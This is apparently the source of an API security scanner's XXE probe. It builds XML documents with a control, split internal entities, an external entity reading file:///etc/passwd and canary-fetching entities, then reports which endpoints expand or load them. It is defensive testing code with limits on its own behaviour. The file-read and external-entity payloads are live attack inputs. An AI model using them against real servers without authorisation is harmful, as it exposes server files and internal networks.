/**
 * XML external entities (API8): operations that take XML — an XML request body (`application/xml`,
 * `text/xml`, `application/soap+xml`, any `+xml`), an XML or SVG file in a multipart body, and up to a few JSON
 * creations sent as XML instead (a server that picks its parser by the content type it is sent) — get a small
 * document with a DTD, as the first identity the API lets in (A, the admin, anonymous):
 *
 * Then, with what is left of `MAX_OPERATIONS`, multipart file inputs that declare no type (an import that parses
 * what it is given) get an XML file.
 *
 * 1. the control: the same document without the DTD, plain values in its text;
 * 2. an internal entity split in two (`&pa;&pb;`): their joined value (`pcx` + random) in the answer — never in
 *    the request as such — proves that the parser expands entities declared by the client (medium);
 * 3. an external entity naming `file:///etc/passwd`: `root:x:0:0` in the answer and not in the control's proves
 *    that it reads the server's files (high);
 * 4. an external entity (and a parameter entity) naming the scan's own loopback canary: a fetch recorded there
 *    proves that it loads external entities even when nothing is shown (blind, high); the blind probes of all
 *    operations wait for the canary together, once, at the end.
 *
 * Harmless only: no recursive expansion (no "billion laughs"), no network entity but the canary, one file that
 * every Unix system has and any user may read. At most `MAX_OPERATIONS` operations, four requests each.
 */
import { randomBytes } from 'node:crypto';
import type { ApiDocument, JsonObject, JsonSchema, Operation } from '../../../core/api-document.ts';
import { FilePart, type ScanResponse } from '../client.ts';
import { evidenceOf, type Identity, type ScanContext } from '../context.ts';
import { changesAccount } from '../discover.ts';
import {
  bodySchema,
  isCreationOperation,
  isExcluded,
  isLoginOperation,
  type PlannedRequest,
  pathActs,
  planRequest,
  requestBody,
} from '../planner.ts';
import { SCAN_RULES } from '../rules.ts';
import { propertiesOf, resolveSchema, sampleValue } from '../schema.ts';
import { creationSweep, creators } from './injection.ts';
import { storesOnAccount } from './url-inputs.ts';

const XML_TYPE = /^(application|text)\/([\w.-]+\+)?xml\b/i;
const MAX_OPERATIONS = 8;
/** JSON creations also tried as XML (one request each unless the marker comes back). */
const MAX_SWITCHED = 6;
/** The server fetches while it parses, before it answers: the hit is usually there when the answer is. */
const CANARY_WAIT_MS = 1000;
/** A line of a Unix password file: the root account. */
const PASSWD = /\broot:[^:\n]*:0:0:/;
const NAME = /^[A-Za-z_][\w.-]{0,63}$/;
/** The whole XXE pass: past it no new operation is started (a parser that hangs on XML must not eat API8). */
const WALL_MS = 6000;
/**
 * Operations that are never sent a document standing in for their values: each text value becomes `&pa;&pb;`
 * or `portcullis`, which an account action would store as the identity's password, e-mail or name.
 */
const ACCOUNT_BODY_FIELD =
  /pass(word)?|passwd|pwd|^(new_?)?(e-?mail|mail|role|roles|is_?admin|admin|user_?name|login|phone)$/i;
const ACCOUNT_PATH =
  /(^|\/)(me|my|self|current|account|accounts|profile|profiles|user|settings|password|passwords|e-?mail|log_?in|log_?out|sign_?in|sign_?up|signup|register|registration|auth|oauth|token|tokens|session|sessions|reset|verify)(\/|$)/i;

/** Whether a POST is the creation of an object the scan may fill with entity references, not an account action. */
function mayFillValues(spec: ApiDocument, op: Operation): boolean {
  if (
    isLoginOperation(spec, op) ||
    changesAccount(spec, op) ||
    ACCOUNT_PATH.test(op.path) ||
    storesOnAccount(spec, op)
  )
    return false;
  if (/\}\/?$/.test(op.path)) return false;
  // An action (`POST /orders/cancel`, `/orders/{id}:cancel`) would act on the sampled ids its document carries
  // (`<order_id>1</order_id>`): someone's object (the runner also reads a document's ids, as a JSON body's).
  if (pathActs(op.path)) return false;
  return !Object.keys(propertiesOf(spec, bodySchema(op))).some((k) => ACCOUNT_BODY_FIELD.test(k));
}

/** What the scan sends in place of each text value: plain text, or entity references. */
type Filler = string;

/** A document and the place its text values go, built once per operation. */
interface Template {
  readonly root: string;
  /** The document without DTD or XML declaration, each text value produced by `fill`. */
  render(fill: Filler): string;
}

function escapeText(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

function elementName(name: string, fallback: string): string {
  return NAME.test(name) ? name : fallback;
}

/** The element name a schema gives its XML (`xml.name`), else the `$ref`'s last segment, else `fallback`. */
function rootName(spec: ApiDocument, schema: JsonSchema | undefined, fallback: string): string {
  if (schema !== null && typeof schema === 'object') {
    const xml = resolveSchema(spec, schema).xml as JsonObject | undefined;
    if (typeof xml?.name === 'string') return elementName(xml.name, fallback);
    if (typeof schema.$ref === 'string') return elementName(schema.$ref.split('/').pop() ?? '', fallback);
  }
  return fallback;
}

/** A sampled value as XML elements: objects and arrays as nested elements, text where `fill` says. */
function elements(value: unknown, name: string, fill: Filler, depth: number): string {
  if (depth > 4) return '';
  if (Array.isArray(value))
    return value
      .slice(0, 2)
      .map((v) => elements(v, name, fill, depth + 1))
      .join('');
  if (value !== null && typeof value === 'object') {
    const inner = Object.entries(value as Record<string, unknown>)
      .slice(0, 20)
      .map(([k, v]) => elements(v, elementName(k, 'value'), fill, depth + 1))
      .join('');
    return `<${name}>${inner}</${name}>`;
  }
  const text = typeof value === 'string' ? fill : escapeText(String(value ?? ''));
  return `<${name}>${text}</${name}>`;
}

/**
 * The document for an XML body: the media's example when it is XML (its text values replaced), else the
 * sampled body as elements under the schema's root name. Text values become `fill`.
 */
export function xmlTemplate(
  spec: ApiDocument,
  schema: JsonSchema | undefined,
  example: unknown,
  fallbackRoot: string,
): Template {
  const s = resolveSchema(spec, schema);
  const given = typeof example === 'string' ? example : typeof s.example === 'string' ? s.example : undefined;
  if (given?.trim().startsWith('<') && given.length < 20_000) {
    const body = given.trim().replace(/^<\?xml[^>]*\?>\s*/, '');
    const root = /^<([A-Za-z_][\w.:-]*)/.exec(body)?.[1];
    if (root !== undefined && !body.startsWith('<!')) {
      const parts = body.split(/(<[^>]*>)/);
      return {
        root,
        render: (fill) =>
          parts
            .map((p, i) => {
              // A text between an opening tag and its closing tag: a value.
              const leaf =
                p.trim() !== '' &&
                !p.startsWith('<') &&
                /^<[^/!?][^>]*[^/]>$|^<[^/!?]>$/.test(parts[i - 1] ?? '') &&
                (parts[i + 1] ?? '').startsWith('</');
              return leaf ? fill : p;
            })
            .join(''),
      };
    }
  }
  const root = rootName(spec, schema, fallbackRoot);
  const sample = sampleValue(spec, schema);
  return {
    root,
    render: (fill) => {
      if (sample !== null && typeof sample === 'object' && !Array.isArray(sample)) {
        const inner = Object.entries(sample as Record<string, unknown>)
          .slice(0, 20)
          .map(([k, v]) => elements(v, elementName(k, 'value'), fill, 1))
          .join('');
        // A body with no text member still gets one element for the entity.
        return `<${root}>${inner.includes(fill) ? inner : `${inner}<value>${fill}</value>`}</${root}>`;
      }
      return `<${root}>${fill}</${root}>`;
    },
  };
}

/** The four documents of one probe: control, internal entity, file, canary. */
export function xxeDocuments(
  template: Template,
  marker: string,
  canaryUrls: readonly string[],
): { control: string; internal: string; file: string; canary: string } {
  const cut = 5;
  const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
  const dtd = (decls: string) => `<!DOCTYPE ${template.root} [${decls}]>\n`;
  return {
    control: head + template.render('portcullis'),
    internal:
      head +
      dtd(`<!ENTITY pa "${marker.slice(0, cut)}"><!ENTITY pb "${marker.slice(cut)}">`) +
      template.render('&pa;&pb;'),
    file: head + dtd('<!ENTITY pf SYSTEM "file:///etc/passwd">') + template.render('&pf;'),
    canary:
      head +
      dtd(
        `<!ENTITY pc SYSTEM "${canaryUrls[0]}">` +
          (canaryUrls[1] ? `<!ENTITY % pp SYSTEM "${canaryUrls[1]}"> %pp;` : ''),
      ) +
      template.render('&pc;'),
  };
}

/** An XML target: how to put a document into one request of the operation. */
interface XmlTarget {
  readonly op: Operation;
  readonly where: string;
  readonly template: Template;
  /** 0: the document says it takes XML; 1: a file input of no declared type; 2: a JSON operation tried as XML. */
  readonly rank: 0 | 1 | 2;
  readonly request: (planned: PlannedRequest, doc: string) => PlannedRequest;
}

/**
 * The file inputs of a multipart body that may take XML: SVG or XML by their declared type or their words
 * (`generic: false`), or any file input that declares no type of its own, nor an image's (`generic: true`:
 * an import or upload that parses what it is given).
 */
function fileInputs(ctx: ScanContext, op: Operation): { name: string; svg: boolean; generic: boolean }[] {
  const rb = requestBody(op);
  if (rb?.encoding !== 'multipart') return [];
  const out: { name: string; svg: boolean; generic: boolean }[] = [];
  for (const [name, prop] of Object.entries(propertiesOf(ctx.spec, rb.schema))) {
    const item =
      prop.type === 'array' && prop.items !== undefined
        ? resolveSchema(ctx.spec, prop.items as JsonSchema)
        : prop;
    const file =
      item.format === 'binary' || item.format === 'base64' || typeof item.contentMediaType === 'string';
    if (!file) continue;
    const encoding = rb.media.encoding?.[name] as JsonObject | undefined;
    const declared = `${typeof encoding?.contentType === 'string' ? encoding.contentType : ''} ${typeof item.contentMediaType === 'string' ? item.contentMediaType : ''}`;
    const words = `${declared} ${name} ${typeof prop.description === 'string' ? prop.description : ''} ${op.path} ${op.summary ?? ''}`;
    if (/svg/i.test(words)) out.push({ name, svg: true, generic: false });
    else if (/xml|soap|wsdl|rss|atom|xliff|gpx|kml/i.test(words))
      out.push({ name, svg: false, generic: false });
    else if (
      !/\w\/\w/.test(declared.replace(/application\/octet-stream/gi, '')) &&
      !/image|photo|picture|avatar|logo|icon|thumb/i.test(name)
    )
      out.push({ name, svg: false, generic: true });
  }
  return out;
}

function targets(ctx: ScanContext): XmlTarget[] {
  const out: XmlTarget[] = [];
  let switched = 0;
  for (const op of ctx.spec.operations) {
    if (isExcluded(op) || !['POST', 'PUT', 'PATCH'].includes(op.method)) continue;
    const content = Object.entries(op.requestBody?.content ?? {});
    const xml = content.find(([type]) => XML_TYPE.test(type));
    if (xml) {
      const [type, media] = xml;
      // A declared XML account action (`POST /me/password` in XML) would store the fillers all the same.
      if (
        isLoginOperation(ctx.spec, op) ||
        changesAccount(ctx.spec, op) ||
        ACCOUNT_PATH.test(op.path) ||
        storesOnAccount(ctx.spec, op) ||
        Object.keys(propertiesOf(ctx.spec, media.schema)).some((k) => ACCOUNT_BODY_FIELD.test(k))
      )
        continue;
      out.push({
        op,
        where: `its ${type} body`,
        rank: 0,
        template: xmlTemplate(ctx.spec, media.schema, media.example, 'root'),
        request: (planned, doc) => ({
          ...planned,
          headers: { ...withoutContentType(planned.headers), 'content-type': type },
          body: doc,
        }),
      });
      continue;
    }
    // A file sent to the identity's own account (`/me/avatar`, `/v2/member/picture`) would replace its picture.
    if (ACCOUNT_PATH.test(op.path) || storesOnAccount(ctx.spec, op)) continue;
    const inputs = fileInputs(ctx, op);
    const typed = inputs.filter((f) => !f.generic);
    const files = typed.length > 0 ? typed : inputs;
    if (files.length > 0) {
      const svg = files[0].svg;
      out.push({
        op,
        where: `the ${svg ? 'SVG' : 'XML'} file of its ${files.map((f) => f.name).join(', ')} input`,
        rank: typed.length > 0 ? 0 : 1,
        template: svg
          ? {
              root: 'svg',
              render: (fill) =>
                `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>${fill}</title><text x="0" y="10">${fill}</text></svg>`,
            }
          : { root: 'portcullis', render: (fill) => `<portcullis><value>${fill}</value></portcullis>` },
        request: (planned, doc) => {
          const body = { ...((planned.body as Record<string, unknown>) ?? {}) };
          for (const f of files)
            body[f.name] = new FilePart(
              `portcullis-scan.${f.svg ? 'svg' : 'xml'}`,
              f.svg ? 'image/svg+xml' : 'application/xml',
              doc,
            );
          return { ...planned, body };
        },
      });
      continue;
    }
    const rb = requestBody(op);
    if (
      op.method === 'POST' &&
      rb?.encoding === 'json' &&
      switched < MAX_SWITCHED &&
      mayFillValues(ctx.spec, op)
    ) {
      switched++;
      out.push({
        op,
        where: 'its body sent as application/xml instead of JSON',
        rank: 2,
        template: xmlTemplate(ctx.spec, rb.schema, undefined, 'root'),
        request: (planned, doc) => ({
          ...planned,
          headers: { ...withoutContentType(planned.headers), 'content-type': 'application/xml' },
          body: doc,
        }),
      });
    }
  }
  // Declared XML first: the untyped files and the switched JSON operations only fill what is left.
  return [0, 1, 2].flatMap((rank) => out.filter((t) => t.rank === rank)).slice(0, MAX_OPERATIONS);
}

function withoutContentType(headers: Readonly<Record<string, string>> | undefined): Record<string, string> {
  return Object.fromEntries(
    Object.entries(headers ?? {}).filter(([k]) => k.toLowerCase() !== 'content-type'),
  );
}

/** Whether a text holds the marker that the request itself did not carry. */
function shows(res: ScanResponse | undefined, text: string, sentDoc: string): boolean {
  return res?.text.includes(text) === true && !sentDoc.includes(text) && !res.sent.url.includes(text);
}

export async function xxe(ctx: ScanContext): Promise<void> {
  // Blind probes wait for the canary together, once, after every operation had its turn.
  const pending: {
    t: XmlTarget;
    canaries: { url: string; token: string }[];
    blind: ScanResponse;
    doc: string;
    expanded?: { res: ScanResponse; marker: string; doc: string };
  }[] = [];
  const list = targets(ctx);
  if (list.length === 0)
    ctx.note?.({
      rule: SCAN_RULES.xxe,
      reason: 'no operation takes XML (a body or a file) and no JSON POST to try as XML',
    });
  const started = Date.now();
  // Once a switched JSON operation leaves an XML document unanswered, the others are not tried.
  let xmlHangs = false;
  // A creation that takes the documents makes an object with each, in the data of whoever sent it: as a given
  // identity or the admin, each is deleted again at the end (the injection probes' sweep).
  const sweep = creationSweep(ctx, 'the XXE probes');
  for (const t of list) {
    if (ctx.signal.aborted || Date.now() - started > WALL_MS) break;
    if (t.rank === 2 && xmlHangs) continue;
    const { op } = t;
    const marker = `pcx${randomBytes(5).toString('hex')}`;
    const canaries = [ctx.canary.url(), ctx.canary.url()];
    const docs = xxeDocuments(
      t.template,
      marker,
      canaries.map((c) => c.url),
    );
    // The first identity the operation lets in, judged by the control.
    let as: Identity | null | undefined;
    let control: ScanResponse | undefined;
    const creates = isCreationOperation(ctx.spec, op);
    // A creation nothing deletes: not as the admin (creators).
    for (const who of creators(ctx, op, [ctx.identities[0], ctx.admin, null])) {
      if (who === undefined) continue;
      const planned = planRequest(ctx.spec, op, ctx.objects, who ? { owner: who.name } : {});
      const req = t.request(planned, docs.control);
      control = await ctx.send(req, who);
      if (creates && who) sweep.seen(op, who, '')(req, control, undefined);
      // Unanswered: the next identity would wait as long.
      if (!control) break;
      if (control.status !== 401 && control.status !== 403) {
        as = who;
        break;
      }
    }
    if (!control && t.rank === 2) xmlHangs = true;
    if (as === undefined || !control) continue;
    const send = async (doc: string) => {
      const req = t.request(planRequest(ctx.spec, op, ctx.objects, as ? { owner: as.name } : {}), doc);
      const res = await ctx.send(req, as);
      if (creates && as) sweep.seen(op, as, '')(req, res, undefined);
      return res;
    };
    const internal = await send(docs.internal);
    if (!internal && t.rank === 2) xmlHangs = true;
    const expanded = shows(internal, marker, docs.internal);
    // A JSON operation that did not take the XML as XML is left there: one request was enough to see it.
    if (t.rank === 2 && !expanded) continue;
    const file = await send(docs.file);
    if (file && PASSWD.test(file.text) && !PASSWD.test(control.text) && !PASSWD.test(docs.file)) {
      ctx.report(SCAN_RULES.xxe, {
        operation: op,
        key: 'file',
        severity: 'high',
        message: `${op.method} ${op.path} read a server file through an XML external entity: ${t.where} declared <!ENTITY pf SYSTEM "file:///etc/passwd"> and the answer holds its root:x:0:0 line (status ${file.status}); the same document without the DTD did not.`,
        evidence: evidenceOf(file, { document: docs.file }),
      });
      continue;
    }
    const blind = await send(docs.canary);
    if (blind)
      pending.push({
        t,
        canaries,
        blind,
        doc: docs.canary,
        ...(expanded && internal ? { expanded: { res: internal, marker, doc: docs.internal } } : {}),
      });
  }
  await sweep.flush();
  sweep.report();
  const hits = await Promise.all(
    pending.map(async (p) =>
      (await Promise.all(p.canaries.map((c) => ctx.canary.waitFor(c.token, CANARY_WAIT_MS)))).findIndex(
        (h) => h !== undefined,
      ),
    ),
  );
  pending.forEach(({ t, canaries, blind, doc, expanded }, i) => {
    const { op } = t;
    const hit = hits[i];
    if (hit >= 0) {
      ctx.report(SCAN_RULES.xxe, {
        operation: op,
        key: 'external',
        severity: 'high',
        message: `${op.method} ${op.path} loaded an external ${hit === 0 ? 'entity' : 'parameter entity'} declared in ${t.where}: the scan's canary URL it named was fetched (blind XXE: the server's files and internal network are reachable the same way).`,
        evidence: evidenceOf(blind, { document: doc, canaryHit: canaries[hit].url }),
      });
    } else if (expanded) {
      ctx.report(SCAN_RULES.xxe, {
        operation: op,
        key: 'internal',
        severity: 'medium',
        message: `${op.method} ${op.path} expands entities declared by the client: ${t.where} declared two internal entities and their joined value, ${expanded.marker}, came back in the answer (status ${expanded.res.status}). No external entity was seen loaded, but a parser that takes the client's DTD is one setting away from XXE and open to entity expansion attacks.`,
        evidence: evidenceOf(expanded.res, { document: expanded.doc, marker: expanded.marker }),
      });
    }
  });
}
